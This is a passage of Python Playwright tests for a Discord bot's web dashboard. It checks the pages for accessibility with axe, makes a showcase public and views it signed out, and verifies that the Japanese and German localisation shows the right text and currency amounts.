    await page.goto(f"{base}/servers/{world.guild.id}")
    tabs = await page.eval_on_selector_all("nav.tabs a", "links => links.map(a => a.href)")
    assert len(tabs) >= 12, tabs  # Overview ... Gallery and every settings page
    for url in [*tabs, f"{base}/me"]:
        await page.goto(url)
        label = urlsplit(url).path.rsplit("/", 1)[-1]
        if label == "styles":  # the kept thumbnail, served by the dashboard, is shown
            await page.wait_for_function(
                "(i => i && i.complete && i.naturalWidth > 0)(document.querySelector('#main img'))",
                timeout=5000,
            )
        problems += await axe_violations(tab, label)
        problems += await unreached_by_tab(tab, label)
    # The showcase made public: its public page, signed out.
    await page.goto(f"{base}/servers/{world.guild.id}/showcase")
    await page.select_option("#public select[name=public]", "on")
    await page.click("#public button[type=submit]")
    public_url = await page.get_attribute("#public-link", "href")
    assert public_url is not None
    visitor_context = await chromium.new_context(bypass_csp=True)
    visitor = Tab(await visitor_context.new_page(), "axe-visitor")
    await visitor.page.goto(public_url)
    problems += await axe_violations(visitor, "public showcase")
    problems += await unreached_by_tab(visitor, "public showcase")
    await visitor.page.goto(base + "/")
    problems += await axe_violations(visitor, "front page")
    assert problems == [], "\n".join(problems)
    await visitor_context.close()
    await context.close()


async def test_in_a_browser_a_japanese_member_reads_japanese_and_the_menu_changes_it(
    world: World, chromium: Any
) -> None:
    """Discord's locale at sign-in (``users/@me``) chooses the language; the header's menu
    changes it; amounts follow the language (Babel's CLDR data)."""
    from bot.i18n import money

    sakura = world.discord.add_user("sakura", locale="ja")
    made = await world.answer(
        await world.command("image", {"prompt": "桜の木", "model": IMAGE_MODEL}, user_id=sakura.id)
    )
    assert made.attachments or made.urls, made.text
    tab = await open_tab(chromium, "ja")
    page = tab.page
    await page.goto(dashboard_url(world) + "/")
    world.discord.oauth.browser_user = sakura.id
    await page.click("a[href='/auth/login']")
    await page.click("#authorize")
    await page.wait_for_url(re.compile(r"/servers$"))
    assert await page.get_attribute("html", "lang") == "ja"
    assert await page.inner_text("h1") == "あなたのサーバー"
    await page.click("nav.account >> text=自分の結果")
    await page.wait_for_selector("h1:has-text('自分の結果')")
    spent = await page.inner_text("section.panel tbody td.num >> nth=1")
    assert spent.startswith("$") and spent == money(dollars(spent) * 100, "ja")
    assert "今月の支出" in await page.inner_text("main")
    await tab.shoot("me-ja")
    # The menu: German, kept in the lang cookie, on the same page.
    await page.select_option("#language-menu", "de")
    await page.click("#language button[type=submit]")
    await page.wait_for_selector("h1:has-text('Meine Ergebnisse')")
    assert page.url.endswith("/me")
    shown = await page.inner_text("section.panel tbody td.num >> nth=1")
    assert shown.endswith("\xa0$") and shown == money(dollars(spent) * 100, "de")
    assert (tab.errors, tab.failed) == ([], [])
